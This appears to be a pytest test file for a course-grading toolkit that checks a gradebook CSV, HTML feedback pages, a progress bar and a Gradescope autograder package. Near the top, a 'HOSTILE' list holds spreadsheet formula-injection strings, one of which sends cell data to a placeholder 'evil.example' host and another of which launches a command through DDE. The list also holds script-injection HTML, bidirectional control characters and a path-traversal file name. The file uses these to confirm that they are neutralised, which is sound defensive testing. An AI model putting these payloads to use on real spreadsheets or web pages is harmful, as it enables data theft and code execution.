"""Grades where instructors keep them: feedback pages, the LMS gradebook, the Gradescope autograder, the progress bar."""

import csv
import html.parser
import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from coursetools import gradebook, gradescope, progress
from lossbook import exercises

ROOT = Path(__file__).resolve().parents[1]
CH05 = "05_losses_from_scratch"
#: Names and messages a hostile student can put in the grader's rows (folder names, printed output).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1)) **bold** <!-- x --> `code`",
    "abc\u202edcba\u2066x\u2069",
    "lone \udc80 surrogate",
]


def _row(student, chapter, label, points, most, message="", status="graded", path=""):
    return {
        "student": student,
        "notebook": chapter,
        "exercise": label,
        "points": points,
        "max_points": most,
        "status": status,
        "message": message,
        "path": path,
    }


def _class():
    rows = []
    for i, name in enumerate(HOSTILE):
        rows.append(_row(name, CH05, "ex-05-sparse-cce", "1.5", "3", f"{name}; case 2 received {name}"))
        rows.append(_row(name, CH05, "ex-05-cap", "1", "1", ""))
        if i % 2:
            rows.append(
                _row(name, "01_training_as_optimisation", "ex-01-step", "", "1", "not a notebook: invalid JSON", status="failed")
            )
    rows.append(_row("ada", CH05, "ex-05-sparse-cce", "3", "3"))
    rows.append(_row("ada", CH05, "ex-05-sparse-cce", "3", "3", status="graded"))  # a duplicate row counts once
    rows.append(_row("ada", CH05, "ex-05-cap", "7", "1"))  # above the maximum: capped
    rows.append(_row("ada", "", "", "", "", "unknown notebook name 'notes.ipynb'", status="failed"))
    return rows


# --------------------------------------------------------------------------- the gradebook


def test_the_gradebook_has_one_row_per_student_a_column_per_chapter_and_a_total(tmp_path):
    written = gradebook.write(_class(), feedback=None, gradebook=tmp_path / "gradebook.csv", log=lambda *a: None)
    with open(written["gradebook"], encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        body = list(reader)
    assert header == [*gradebook.IDENTITY, "01_training_as_optimisation", CH05, "Total"]
    assert len(body) == len(HOSTILE) + 1
    rows = {r[3]: dict(zip(header, r)) for r in body}
    ada = rows["ada"]
    assert ada[CH05] == "4" and ada["Total"] == "4"  # 3 (once) + 1 (capped at the maximum)
    assert ada["01_training_as_optimisation"] == ""  # nothing handed in: the LMS keeps its cell
    odd = dict(zip(header, body[1]))
    assert odd["01_training_as_optimisation"] in ("0", "")  # handed in, unreadable: 0
    assert sum(dict(zip(header, r))["01_training_as_optimisation"] == "0" for r in body) == len(HOSTILE) // 2
    for row in body:
        assert float(dict(zip(header, row))["Total"]) == sum(float(dict(zip(header, row))[c] or 0) for c in header[5:-1])


def test_no_gradebook_cell_is_a_formula_or_carries_a_control_character(tmp_path):
    path = gradebook.write(_class(), feedback=None, gradebook=tmp_path / "g.csv", log=lambda *a: None)["gradebook"]
    text = path.read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.lstrip().startswith(gradebook._FORMULA), value
            assert all(ch == " " or ch.isprintable() for ch in value), ascii(value)
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'-2+3" in text and "'@SUM" in text
    assert "\u202e" not in text and "\u2066" not in text


def test_the_roster_gives_canvas_its_identity_columns(tmp_path):
    roster = tmp_path / "export.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1\n"
        '"Lovelace, Ada",1234,S001,ada,Section A,9\n'
        '"Hopper, Grace",5678,S002,grace,Section B,7\n',
        encoding="utf-8",
    )
    logged = []
    written = gradebook.write(
        [_row("ada", CH05, "ex-05-cap", "1", "1"), _row("bob", CH05, "ex-05-cap", "0", "1")],
        feedback=None,
        gradebook=tmp_path / "g.csv",
        roster=roster,
        log=logged.append,
    )
    rows = gradebook.read_rows(written["gradebook"])
    assert rows[0] | {} == {
        "Student": "Lovelace, Ada",
        "ID": "1234",
        "SIS User ID": "S001",
        "SIS Login ID": "ada",
        "Section": "Section A",
        CH05: "1",
        "Total": "1",
    }
    assert rows[1]["Student"] == rows[1]["SIS Login ID"] == "bob" and rows[1]["ID"] == ""
    assert written["unmatched"] == ["bob"] and any("bob" in line for line in logged)


def test_the_gradebook_cli_reads_the_grades_file(tmp_path):
    grades = tmp_path / "grades.csv"
    with open(grades, "w", encoding="utf-8", newline="", errors="backslashreplace") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(_class()[0]))
        writer.writeheader()
        writer.writerows(_class())
    assert gradebook.main([str(grades), "--feedback", str(tmp_path / "fb"), "--gradebook", str(tmp_path / "gb.csv")]) == 0
    assert len(gradebook.read_rows(tmp_path / "gb.csv")) == len(HOSTILE) + 1
    assert len(list((tmp_path / "fb").glob("*.html"))) == len(HOSTILE) + 1
    assert not list(tmp_path.glob(".*tmp")) and not list((tmp_path / "fb").glob(".*"))
    assert gradebook.main([str(tmp_path / "missing.csv")]) == 2


def test_make_grade_writes_the_feedback_and_the_gradebook_after_the_grades():
    done = subprocess.run(
        ["make", "-n", "grade", "SUBMISSIONS=subs", "ROSTER=export.csv"], cwd=ROOT, capture_output=True, text=True, check=True
    )
    lines = [line for line in done.stdout.splitlines() if "-m coursetools." in line]
    assert '-m coursetools.grading "subs" --out "grades.csv"' in lines[0]
    assert lines[1].endswith(
        '-m coursetools.gradebook "grades.csv" --feedback "feedback" --gradebook "gradebook.csv" --roster "export.csv"'
    )


# --------------------------------------------------------------------------- feedback pages


class _Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.comments, self.text = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text.append(data)


ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "p",
    "strong",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
    "br",
}
ALLOWED_ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "class"}


def test_a_feedback_page_shows_each_exercise_and_injects_nothing(tmp_path):
    written = gradebook.write(_class(), feedback=tmp_path / "feedback", gradebook=None, log=lambda *a: None)
    pages = written["feedback"]
    assert len(pages) == len(HOSTILE) + 1
    assert len({p.name for p in pages.values()}) == len(pages)  # no two students share a page
    for student, path in pages.items():
        assert path.parent == tmp_path / "feedback" and not path.name.startswith(".")
        text = path.read_text(encoding="utf-8")
        parsed = _Tags()
        parsed.feed(text)
        assert set(parsed.tags) <= ALLOWED_TAGS, (student, set(parsed.tags) - ALLOWED_TAGS)
        assert set(parsed.attributes) <= ALLOWED_ATTRIBUTES
        assert parsed.comments == []
        assert "default-src 'none'" in text
        assert "\u202e" not in text and "\u2066" not in text
        shown = "".join(parsed.text)
        assert "ex-05-sparse-cce" in shown and "ex-05-cap" in shown
    page = pages[HOSTILE[6]].read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # The first failing visible case: its call and, for a multi-case exercise, the expected value.
    assert "First failing case (2)" in page and "sparse_cce(" in page and "expected" in page
    ada = pages["ada"].read_text(encoding="utf-8")
    assert "Total: <strong>4</strong> of 4 points" in ada and "unknown notebook name" in ada


def test_the_first_failing_case_is_told_only_as_far_as_check_tells_it():
    multi = gradebook.first_failing_case("ex-05-sparse-cce", "1 of 4 cases pass; case 3 received 0.0")
    case = exercises.get("ex-05-sparse-cce").cases[2]
    assert multi["case"] == 3 and multi["call"].startswith("sparse_cce(")
    assert multi["expected"] == gradebook.clean(
        __import__("lossbook.exercises.feedback", fromlist=["show"]).show(exercises.get("ex-05-sparse-cce").expected(case))
    )
    single = gradebook.first_failing_case("ex-05-cap", "incorrect; case 1 received 3.0")
    assert single == {"case": 1, "call": "clipped_loss_by_hand()"}  # a single case's value is the answer: not shown
    assert gradebook.first_failing_case("ex-05-sparse-cce", "held-out case 2 received 0.0") is None
    assert gradebook.first_failing_case("ex-05-sparse-cce", "case 99 received 0.0") is None
    assert gradebook.first_failing_case("no-such-exercise", "case 1 received 0.0") is None


def test_feedback_file_names_are_plain_and_distinct():
    names = ["ada", "../../etc/passwd", ".hidden", "a/b", "a_b", "a b", "\u202eevil", "x" * 300, ""]
    files = [gradebook.safe_name(n) for n in names]
    assert files[0] == "ada" and len(set(files)) == len(files)
    for name in files:
        assert name and "/" not in name and not name.startswith(".") and len(name) <= 89
        assert all(ch.isalnum() or ch in "._-" for ch in name)


# --------------------------------------------------------------------------- the progress bar


class _Clock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


class _Terminal(io.StringIO):
    def isatty(self):
        return True


def test_the_progress_bar_draws_on_a_terminal_once_a_run_is_long():
    clock, out = _Clock(), _Terminal()
    bar = progress.Progress(4, "students", stream=out, delay=2.0, clock=clock)
    bar.update()
    assert out.getvalue() == ""  # a short run stays quiet
    clock.now = 30.0
    bar.update()
    assert out.getvalue().startswith("\rgrading  [############------------]  2/4 students  0:30 elapsed, ~0:30 left")
    clock.now = 60.0
    bar.update(2)
    bar.close()
    assert "4/4 students  1:00 elapsed" in out.getvalue() and out.getvalue().endswith("\n")


def test_the_progress_bar_writes_tenths_to_a_log_and_nothing_for_a_short_run():
    clock, out = _Clock(), io.StringIO()
    bar = progress.Progress(100, "students", stream=out, delay=2.0, clock=clock)
    for _ in range(100):
        clock.now += 1.0
        bar.update()
    bar.close()
    lines = out.getvalue().splitlines()
    assert len(lines) == 10 and lines[-1].startswith("grading  [########################]  100/100")
    assert "\r" not in out.getvalue()
    quiet = io.StringIO()
    short = progress.Progress(3, stream=quiet, delay=2.0, clock=_Clock())
    for _ in range(3):
        short.update()
    short.close()
    assert quiet.getvalue() == ""


# --------------------------------------------------------------------------- Gradescope


def _answer(label, code):
    cell = nbformat.v4.new_code_cell(code)
    cell.metadata["nbgrader"] = {
        "grade_id": f"{label}-answer",
        "solution": True,
        "grade": False,
        "locked": False,
        "schema_version": 3,
    }
    return cell


@pytest.fixture(scope="module")
def autograder(grading_sandbox, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("gradescope")
    zip_path = gradescope.build(tmp / "autograder.zip", chapters=[CH05], secret="a-test-secret", log=lambda *a: None)
    root = tmp / "autograder"
    (root / "source").mkdir(parents=True)
    with zipfile.ZipFile(zip_path) as zf:
        names = zf.namelist()
        modes = {info.filename: info.external_attr >> 16 for info in zf.infolist()}
        zf.extractall(root / "source")
    for name in ("setup.sh", "run_autograder"):  # zipfile does not restore modes
        (root / "source" / name).chmod(0o755)
    submission = root / "submission"
    submission.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        _answer("ex-05-sparse-cce", exercises.get("ex-05-sparse-cce").solution),
        # sigmoid(z) - y lies in (-1, 1): 7 is wrong for every case, visible or held out.
        _answer("ex-05-logit-grad", "import numpy as np\ndef bce_logit_grad(z, y):\n    return np.full(len(z), 7.0)"),
        _answer("ex-05-cap", "def clipped_loss_by_hand():\n    raise NotImplementedError()"),
    ]
    nbformat.write(nb, submission / f"{CH05}.ipynb")
    (submission / "notes.ipynb").write_text("{}", encoding="utf-8")
    (submission / "sub").mkdir()
    (submission / "sub" / "linked.ipynb").symlink_to(ROOT / "chapters" / f"{CH05}.ipynb")
    os.mkfifo(submission / "fifo.ipynb")
    env = dict(os.environ, LOSSBOOK_AUTOGRADER=str(root), LOSSBOOK_AUTOGRADER_PYTHON=sys.executable)
    env.pop("PYTHONPATH", None)
    done = subprocess.run(["bash", str(root / "source" / "run_autograder")], env=env, capture_output=True, text=True, timeout=600)
    return {"names": names, "modes": modes, "root": root, "run": done}


@pytest.mark.lock  # the autograder pins the grader's packages from the lock
def test_the_zip_holds_setup_and_run_autograder_at_its_root(autograder):
    names, modes = autograder["names"], autograder["modes"]
    assert {"setup.sh", "run_autograder", "requirements.txt", gradescope.CONFIG} <= set(names)
    assert modes["setup.sh"] & 0o111 and modes["run_autograder"] & 0o111
    assert modes["secret"] & 0o077 == 0
    assert f"course/chapters/{CH05}.ipynb" in names and "grader/coursetools/grading.py" in names
    assert not [n for n in names if n.startswith("course/chapters/") and CH05 not in n]
    source = autograder["root"] / "source"
    for script in ("setup.sh", "run_autograder"):
        assert subprocess.run(["bash", "-n", str(source / script)]).returncode == 0
    pinned = [line for line in (source / "requirements.txt").read_text().splitlines() if "==" in line]
    assert any(line.startswith("numpy==") for line in pinned) and any(line.startswith("nbformat==") for line in pinned)
    assert not [
        line
        for line in pinned
        if line.lower().startswith(("pytest", "sphinx", "jupyter-book", "ruff", "playwright", "nbgrader", "nbval"))
    ]
    chapter = nbformat.read(source / "course" / "chapters" / f"{CH05}.ipynb", as_version=4)
    assert all(not c.get("outputs") for c in chapter.cells if c.cell_type == "code")


@pytest.mark.lock  # the autograder pins the grader's packages from the lock
def test_run_autograder_writes_gradescope_results(autograder):
    run = autograder["run"]
    assert run.returncode == 0, run.stdout + run.stderr
    results = json.loads((autograder["root"] / "results" / "results.json").read_text(encoding="utf-8"))
    tests = {t["name"].split(": ")[1]: t for t in results["tests"]}
    assert list(tests) == ["ex-05-sparse-cce", "ex-05-logit-grad", "ex-05-cap", "ex-05-missing-term"]
    for test in results["tests"]:
        assert set(test) >= {"name", "score", "max_score", "output"}
        assert isinstance(test["score"], (int, float)) and 0 <= test["score"] <= test["max_score"]
        assert isinstance(test["output"], str)
    assert results["score"] == sum(t["score"] for t in results["tests"]) == 3
    assert sum(t["max_score"] for t in results["tests"]) == 7
    assert tests["ex-05-sparse-cce"]["score"] == 3 and tests["ex-05-sparse-cce"]["status"] == "passed"
    assert (
        tests["ex-05-logit-grad"]["score"] == 0
        and "First failing case (1): bce_logit_grad(" in tests["ex-05-logit-grad"]["output"]
    )
    assert "NotImplementedError" in tests["ex-05-cap"]["output"]
    assert tests["ex-05-missing-term"]["score"] == 0
    # The link to the instructor's chapter, the FIFO and the stray notebook are reported, never graded.
    assert "linked.ipynb: a link, not read" in results["output"]
    assert "fifo.ipynb: not a regular file" in results["output"]
    assert "notes.ipynb" in results["output"]
    assert results["visibility"] == "visible" and results["stdout_visibility"] == "hidden"


def test_a_missing_chapter_scores_zero_with_a_reason():
    rows = [_row(gradescope.STUDENT, CH05, "ex-05-cap", "1", "1")]
    report = gradescope.results(rows, {CH05: {"ex-05-cap": 1.0}, "01_x": {"ex-01-step": 1.0, "ex-01-eta": 2.0}})
    assert report["score"] == 1 and [t["score"] for t in report["tests"]] == [1, 0, 0]
    assert report["tests"][1]["output"] == "not graded: no notebook named 01_x.ipynb in the submission"
    assert "1 of 4 points" in report["output"]


def test_the_autograder_collects_only_regular_notebooks(tmp_path):
    source = tmp_path / "submission"
    deep = source
    for i in range(gradescope.DEPTH + 2):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    (deep / "deep.ipynb").write_text("{}")
    (source / "big.ipynb").write_bytes(b" " * (gradescope.NOTEBOOK_BYTES + 1))
    (source / "ok.ipynb").write_text("{}")
    (source / "d0" / "ok.ipynb").write_text("{}")
    notes = gradescope.collect(source, tmp_path / "into")
    assert sorted(p.name for p in (tmp_path / "into").iterdir()) == ["ok.ipynb"]
    assert any("big.ipynb: not a regular file" in n for n in notes)
    assert any("nested more than" in n for n in notes)
    assert any("a second notebook of that name" in n for n in notes)
    assert stat.S_ISREG(os.lstat(tmp_path / "into" / "ok.ipynb").st_mode)
